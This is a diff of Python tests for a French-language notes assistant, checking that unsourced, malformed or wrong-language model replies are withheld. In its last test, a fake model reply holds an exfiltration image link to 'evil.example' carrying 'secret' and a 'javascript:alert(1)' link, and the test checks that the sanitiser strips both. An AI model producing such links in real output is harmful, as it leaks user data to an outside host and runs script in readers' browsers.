@@ -63,7 +63,10 @@ def test_figure_without_an_id_needs_proof_too(chat: Chat, fake_llm: FakeOpenAI) 
 
 
 def test_unknown_id_is_never_shown(chat: Chat, fake_llm: FakeOpenAI) -> None:
-    fake_llm.then(Say("Le client est très satisfait de nous. [E7] Je peux chercher dans les notes si vous voulez."))
+    fake_llm.then(
+        call("list_open_questions"),
+        Say("Le client est très satisfait de nous. [E7] Je peux chercher dans les notes si vous voulez."),
+    )
     answer = chat.say("Le client est-il satisfait de notre travail ?")
     assert "satisfait de nous" not in answer
     assert "E7" not in answer
@@ -71,6 +74,7 @@ def test_unknown_id_is_never_shown(chat: Chat, fake_llm: FakeOpenAI) -> None:
 
 
 def test_answer_with_nothing_proved_gives_way_to_the_notes(chat: Chat, fake_llm: FakeOpenAI) -> None:
+    fake_llm.then(call("search_notes", query="chiffre d’affaires"))
     fake_llm.then(Say("Le chiffre d’affaires est de 42 millions d’euros et la marge est de 18 %."))
     answer = chat.say("Que savons-nous du chiffre d’affaires et de la marge ?")
     assert "42" not in answer
@@ -78,7 +82,24 @@ def test_answer_with_nothing_proved_gives_way_to_the_notes(chat: Chat, fake_llm:
     assert chat.events[-1]["result"]["engine"] == "guided"
 
 
+@pytest.mark.parametrize(
+    ("text", "reason"),
+    [
+        ('{"name": "search_notes", "arguments": {"query": "préavis"}}', "réponse illisible"),
+        ('<tool_call>{"name": "ask"}</tool_call>', "réponse illisible"),
+        ("Le client est content et le contrat sera renouvelé sans problème.", "réponse sans source"),
+    ],
+)
+def test_answer_from_nowhere_gives_way_to_the_notes(chat: Chat, fake_llm: FakeOpenAI, text: str, reason: str) -> None:
+    fake_llm.then(Say(text))
+    answer = chat.say(QUESTION)
+    assert text not in answer
+    assert reason in answer.splitlines()[0]
+    assert "trois mois" in answer
+
+
 def test_answer_in_the_wrong_language_is_not_shown(chat: Chat, fake_llm: FakeOpenAI) -> None:
+    fake_llm.then(call("list_open_questions"))
     fake_llm.then(Say("I would be happy to help you with this account, please tell me more about it."))
     answer = chat.say("Peux-tu me dire où nous en sommes avec ce client ?")
     assert "happy" not in answer
@@ -87,7 +108,10 @@ def test_answer_in_the_wrong_language_is_not_shown(chat: Chat, fake_llm: FakeOpe
 
 def test_links_images_and_tags_never_reach_the_reader(chat: Chat, fake_llm: FakeOpenAI) -> None:
     fake_llm.then(
-        Say("Voici le résumé ![suivi](https://evil.example/?d=secret) et <img src=x> [ici](javascript:alert(1)) voilà.")
+        call("list_open_questions"),
+        Say(
+            "Voici le résumé ![suivi](https://evil.example/?d=secret) et <img src=x> [ici](javascript:alert(1)) voilà."
+        ),
     )
     answer = chat.say("Fais-moi un court résumé de ce client s'il te plaît")
     assert not any(bad in answer for bad in ("http", "javascript", "<img", "]("))
